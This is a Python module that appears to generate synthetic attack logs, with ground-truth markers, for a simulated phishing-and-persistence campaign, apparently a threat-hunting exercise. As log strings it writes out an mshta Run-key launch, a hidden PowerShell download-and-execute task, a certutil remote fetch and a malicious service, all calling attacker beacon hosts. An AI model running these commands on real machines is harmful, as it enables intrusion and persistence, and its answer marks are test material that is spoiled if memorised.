"""What the campaign leaves in the logs: visits and beacons at the proxy and the resolver, events on the machines."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from random import Random

from sekimori.scenario.campaign import Campaign
from sekimori.scenario.consoles import Consoles
from sekimori.scenario.dns import DnsLog
from sekimori.scenario.events import Event
from sekimori.scenario.people import Cast, Computer, Employee
from sekimori.scenario.proxy import ProxyLog
from sekimori.scenario.security import Logon, Machine, session_logon_id
from sekimori.scenario.sysmon import Sysmon
from sekimori.scenario.truth import Mark, Sort

__all__ = ["campaign_events", "campaign_traffic"]

_BROWSER = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
_MAILER = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
_SHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def campaign_traffic(plan: Campaign, cast: Cast, proxy: ProxyLog, dns: DnsLog, dice: Random) -> None:
    """Landing page, beacons through the proxy from one victim, past it from the other, and the second domain."""
    for who, when in ((plan.opener, plan.opened), (plan.sleeper, plan.slept)):
        landing = Mark(sort=Sort.MATCH, value=plan.domain, reason="the page that the mail links to")
        request = ("GET", plan.landing, plan.landing_address)
        proxy.plant(when, who.computer, request, who.login, landing)
    for number, when in enumerate(_beats(plan.opened + timedelta(minutes=4), plan.discovered, 30, dice)):
        host = plan.beacons[number % 2]
        mark = Mark(sort=Sort.MATCH, value=host, reason="beacon through the proxy, by day and night")
        request = ("CONNECT", f"{host}:443", plan.beacon_address)
        proxy.plant(when, plan.opener.computer, request, plan.opener.login, mark)
    for when in _beats(plan.slept + timedelta(minutes=3), plan.discovered, 45, dice):
        mark = Mark(sort=Sort.MATCH, value=plan.beacons[2], reason="beacon past the proxy: only its query is seen")
        dns.plant(when, plan.sleeper.computer, plan.beacons[2], plan.beacon_address, mark)
    _second_domain(plan, cast, proxy, dice)


def _second_domain(plan: Campaign, cast: Cast, proxy: ProxyLog, dice: Random) -> None:
    mark = Mark(
        sort=Sort.MATCH,
        value=plan.second_domain,
        reason="the service that was installed on the server calls a second domain",
        reachable="warning.csv",
    )
    request = ("CONNECT", f"{plan.second_domain}:443", plan.second_address)
    for when in _beats(plan.onward[0].ends, plan.discovered, 480, dice):
        proxy.plant(when, cast.servers["SRV-FILE01"], request, "-", mark)


def _beats(begins: datetime, ends: datetime, minutes: int, dice: Random) -> Iterator[datetime]:
    """Moments about `minutes` apart, a fifth more or less."""
    when = begins
    while when < ends:
        yield when
        when += timedelta(milliseconds=int(minutes * 60_000 * (0.8 + 0.4 * dice.random())))


def campaign_events(plan: Campaign, consoles: Consoles) -> Iterator[Event]:
    """Traces on both victims' machines and on the first server that the attacker reached."""
    yield from _infection(plan, plan.opener, plan.opened, consoles)
    yield from _infection(plan, plan.sleeper, plan.slept, consoles)
    yield from _run_key(plan)
    yield from _task(plan, consoles)
    yield from _direct_calls(plan)
    yield from _service(plan)


def _infection(plan: Campaign, who: Employee, when: datetime, consoles: Consoles) -> Iterator[Event]:
    """The browser opens the page, the mail program saves the archive, the program in it is started."""
    machine, sysmon = Machine(who.computer), Sysmon(who.computer, who.login)
    logon = consoles.at(who, when.day)
    folder = rf"C:\Users\{who.login}\Downloads"
    program = rf"{folder}\議事録_20261008\{plan.member}"
    browse = f'"{_BROWSER}" --single-argument {plan.landing}'
    page = _match(plan.domain, "the browser was started with the page's URL")
    yield machine.started(when - timedelta(seconds=2), logon, _BROWSER, browse, parent=_MAILER, mark=page)
    yield sysmon.created(when - timedelta(seconds=2), _BROWSER, browse, parent=_MAILER, mark=page)
    saved = _match(plan.attachment.name, "the attachment was saved")
    yield sysmon.file(when + timedelta(seconds=40), _MAILER, rf"{folder}\{plan.attachment.name}", mark=saved)
    unpacked = _match(plan.member, "the archive's member was unpacked")
    yield sysmon.file(when + timedelta(seconds=71), r"C:\Windows\explorer.exe", program, mark=unpacked)
    run = when + timedelta(seconds=80)
    by_hash = Mark(sort=Sort.MATCH, value=plan.dropped_hash, reason="its hash", reachable="warning.csv")
    started = replace(_match(plan.member, "the archive's member was started"), also=by_hash)
    yield sysmon.created(run, program, f'"{program}" /S', hash_=plan.dropped_hash, mark=started)
    yield machine.started(run, logon, program, f'"{program}" /S', mark=_match(plan.member, "the member was started"))


def _run_key(plan: Campaign) -> Iterator[Event]:
    who = plan.opener
    hive = r"HKU\S-1-5-21-1004336348-1177238915-682003330-1187"
    key = rf"{hive}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdate"
    command = f"mshta.exe http://{plan.beacons[0]}/u/start.hta"
    mark = _match(plan.beacons[0], "a Run key starts the attacker's page at every logon")
    sysmon = Sysmon(who.computer, who.login)
    yield sysmon.registry(plan.opened + timedelta(minutes=3), r"C:\Windows\System32\reg.exe", key, command, mark=mark)


def _task(plan: Campaign, consoles: Consoles) -> Iterator[Event]:
    who, when = plan.sleeper, plan.slept + timedelta(minutes=2)
    logon = consoles.at(who, when.day)
    arguments = f"-w hidden -c iex(iwr http://{plan.beacons[2]}/t/{who.login}).Content"
    machine = Machine(who.computer)
    mark = _match(plan.beacons[2], "a scheduled task loads the attacker's page every hour")
    yield machine.scheduled(when, logon, r"\Microsoft\Windows\OneDriveSync", (_SHELL, arguments), mark)
    ran = _match(plan.beacons[2], "the task ran")
    command = f'"{_SHELL}" {arguments}'
    yield machine.started(when + timedelta(hours=1), logon, _SHELL, command, mark=ran)
    sysmon = Sysmon(who.computer, who.login)
    yield sysmon.created(when + timedelta(hours=1), _SHELL, command, mark=ran)


def _direct_calls(plan: Campaign) -> Iterator[Event]:
    """One query and one connection of the beacon a day: the rest is left out by Sysmon's configuration."""
    who = plan.sleeper
    sysmon = Sysmon(who.computer, who.login)
    server = Computer(plan.beacons[2], plan.beacon_address)
    for day in range(21):
        when = plan.slept + timedelta(days=day, minutes=3, seconds=11 * day)
        asked = _match(server.name, "the beacon's name was asked for")
        yield sysmon.query(when, _SHELL, server.name, server.address, mark=asked)
        connected = _match(server.name, "the beacon's server was connected to, past the proxy")
        yield sysmon.connection(when + timedelta(seconds=1), _SHELL, server, 443, mark=connected)


def _service(plan: Campaign) -> Iterator[Event]:
    """What the attacker did on the file server after the first logon."""
    first = plan.onward[0]
    machine = Machine(first.target)
    account = plan.administrator.administrator
    logon = Logon(account=account, kind=10, logon_id=session_logon_id(first.session))
    fetch = rf"certutil.exe -urlcache -f http://{plan.beacons[0]}/s/wsync.exe C:\ProgramData\wsync.exe"
    fetched = _match(plan.beacons[0], "the attacker fetched a program over the remote desktop")
    shell = r"C:\Windows\System32\certutil.exe"
    yield machine.started(first.begins + timedelta(minutes=9), logon, shell, fetch, mark=fetched)
    image = rf"C:\ProgramData\wsync.exe -c http://{plan.beacons[0]}/s/"
    installed = _match(plan.beacons[0], "a service was installed whose command line holds the attacker's URL")
    yield machine.installed(first.begins + timedelta(minutes=12), "WindowsSyncHost", image, installed)


def _match(value: str, reason: str) -> Mark:
    return Mark(sort=Sort.MATCH, value=value, reason=reason)
